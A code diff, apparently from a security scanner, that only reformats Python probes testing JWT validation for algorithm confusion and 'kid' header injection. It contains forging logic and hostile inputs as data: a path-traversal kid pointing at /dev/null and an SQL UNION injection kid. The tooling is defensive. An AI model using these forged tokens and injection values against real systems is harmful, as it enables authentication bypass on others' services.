@@ -95,8 +95,7 @@ def public_keys_pem(jwks: dict) -> list[bytes]:
                 key = rsa.RSAPublicNumbers(number(jwk["e"]), number(jwk["n"])).public_key()
                 formats = (serialization.PublicFormat.SubjectPublicKeyInfo, serialization.PublicFormat.PKCS1)
             elif jwk.get("kty") == "EC" and jwk.get("crv") in curves:
-                key = ec.EllipticCurvePublicNumbers(number(jwk["x"]), number(jwk["y"]),
-                                                    curves[jwk["crv"]]).public_key()
+                key = ec.EllipticCurvePublicNumbers(number(jwk["x"]), number(jwk["y"]), curves[jwk["crv"]]).public_key()
                 formats = (serialization.PublicFormat.SubjectPublicKeyInfo,)
             else:
                 continue
@@ -118,8 +117,9 @@ def _published_keys(ctx: ProbeContext) -> tuple[list[bytes], str]:
             uri = urlsplit(doc["jwks_uri"])
             if uri.netloc and uri.netloc != urlsplit(ctx.target.url).netloc:
                 continue  # never another host
-            ex = ctx.client.request("GET", uri.path, note="public keys (jwks_uri)",
-                                    headers={"Accept": "application/json"})
+            ex = ctx.client.request(
+                "GET", uri.path, note="public keys (jwks_uri)", headers={"Accept": "application/json"}
+            )
             try:
                 doc = json.loads(ex.body) if _ok(ex) else None
             except ValueError:
@@ -144,8 +144,10 @@ def algorithm_confusion(ctx: ProbeContext) -> Iterator[Finding]:
     where = ""
     if alg[:2] in ("RS", "ES", "PS"):
         pems, where = _published_keys(ctx)
-        attempts += [(f"HS256 keyed with the public key ({'SPKI' if b'BEGIN PUBLIC' in pem else 'PKCS#1'} PEM)",
-                      hs256(pem)) for pem in pems[:2]]
+        attempts += [
+            (f"HS256 keyed with the public key ({'SPKI' if b'BEGIN PUBLIC' in pem else 'PKCS#1'} PEM)", hs256(pem))
+            for pem in pems[:2]
+        ]
         if not pems:
             ctx.observe("no public key found at " + ", ".join(_JWKS_PATHS))
     if not attempts:
@@ -158,17 +160,29 @@ def algorithm_confusion(ctx: ProbeContext) -> Iterator[Finding]:
             continue
         control = _control(ctx, bearer, token, f"{name}, signature altered")
         if control is not None and _ok(control):
-            ctx.check(f"GET {_url_path(ex.path)}", "Authorization", (name, "the same, signature altered"),
-                      [control], found=False, verdict=NO_VERDICT,
-                      reason=f"a wrong signature is accepted too ({control.outcome})")
+            ctx.check(
+                f"GET {_url_path(ex.path)}",
+                "Authorization",
+                (name, "the same, signature altered"),
+                [control],
+                found=False,
+                verdict=NO_VERDICT,
+                reason=f"a wrong signature is accepted too ({control.outcome})",
+            )
             continue
         _token_check(ctx, ex, name)
         ctx.jwt_bypass = ctx.jwt_bypass or (name, forge)
         source = f" read from {where}" if "public key" in name else ""
-        yield _finding(JWT106, ex, f"GET {_url_path(ex.path)} accepted the issued claims re-signed as {name}"
-                       f"{source} ({ex.outcome}), while a wrong signature is refused: the server lets the token "
-                       "choose its algorithm", snippet=ex.summary(), context=name,
-                       extra={"issued alg": alg, "forged": name})
+        yield _finding(
+            JWT106,
+            ex,
+            f"GET {_url_path(ex.path)} accepted the issued claims re-signed as {name}"
+            f"{source} ({ex.outcome}), while a wrong signature is refused: the server lets the token "
+            "choose its algorithm",
+            snippet=ex.summary(),
+            context=name,
+            extra={"issued alg": alg, "forged": name},
+        )
         return
 
 
@@ -177,8 +191,7 @@ def algorithm_confusion(ctx: ProbeContext) -> Iterator[Finding]:
 _SQL_KEY = "secpat-kid-key"
 KIDS = (
     ("a path to an empty file", "../../../../../../../../dev/null", b""),
-    ("an SQL UNION that returns the probe's key", f"secpat-nokey' UNION SELECT '{_SQL_KEY}' -- ",
-     _SQL_KEY.encode()),
+    ("an SQL UNION that returns the probe's key", f"secpat-nokey' UNION SELECT '{_SQL_KEY}' -- ", _SQL_KEY.encode()),
 )
 
 
@@ -192,23 +205,47 @@ def kid_injection(ctx: ProbeContext) -> Iterator[Finding]:
     alg = issued if issued in ("HS256", "HS384", "HS512") else "HS256"
     for what, kid, key in KIDS:
         forge = hs256(key, alg, {"kid": kid})
-        ex = ctx.client.request("GET", bearer.api or "", note=f"kid: {what}",
-                                headers=_auth(forge(bearer.header, bearer.claims)))
-        control = ctx.client.request("GET", bearer.api or "", note=f"kid: {what}, another key",
-                                     headers=_auth(hs256(secrets.token_bytes(16), alg, {"kid": kid})(
-                                         bearer.header, bearer.claims)))
+        ex = ctx.client.request(
+            "GET", bearer.api or "", note=f"kid: {what}", headers=_auth(forge(bearer.header, bearer.claims))
+        )
+        control = ctx.client.request(
+            "GET",
+            bearer.api or "",
+            note=f"kid: {what}, another key",
+            headers=_auth(hs256(secrets.token_bytes(16), alg, {"kid": kid})(bearer.header, bearer.claims)),
+        )
         where = f"GET {_url_path(ex.path)}"
         if _ok(ex) and _ok(control):
-            ctx.check(where, "kid", (kid, "another key"), [ex, control], found=False, verdict=NO_VERDICT,
-                      reason=f"a token with any key is accepted under this kid ({control.outcome})")
+            ctx.check(
+                where,
+                "kid",
+                (kid, "another key"),
+                [ex, control],
+                found=False,
+                verdict=NO_VERDICT,
+                reason=f"a token with any key is accepted under this kid ({control.outcome})",
+            )
             continue
-        ctx.check(where, "kid", (kid, "another key"), [ex, control], found=_ok(ex),
-                  reason=f"signed with {what}'s key: accepted ({ex.outcome}), another key: {control.outcome}"
-                  if _ok(ex) else f"refused ({ex.outcome})")
+        ctx.check(
+            where,
+            "kid",
+            (kid, "another key"),
+            [ex, control],
+            found=_ok(ex),
+            reason=f"signed with {what}'s key: accepted ({ex.outcome}), another key: {control.outcome}"
+            if _ok(ex)
+            else f"refused ({ex.outcome})",
+        )
         if _ok(ex):
             ctx.jwt_bypass = ctx.jwt_bypass or (f"kid {what}", forge)
-            yield _finding(JWT107, ex, f"{where} accepted a token whose `kid` is {what} (`{kid}`), signed with "
-                           f"the key it selects ({ex.outcome}); the same kid with another key was refused "
-                           f"({control.outcome}): the client chooses the key", snippet=ex.summary(), context=kid,
-                           extra={"kid": kid, "alg": alg})
+            yield _finding(
+                JWT107,
+                ex,
+                f"{where} accepted a token whose `kid` is {what} (`{kid}`), signed with "
+                f"the key it selects ({ex.outcome}); the same kid with another key was refused "
+                f"({control.outcome}): the client chooses the key",
+                snippet=ex.summary(),
+                context=kid,
+                extra={"kid": kid, "alg": alg},
+            )
             return
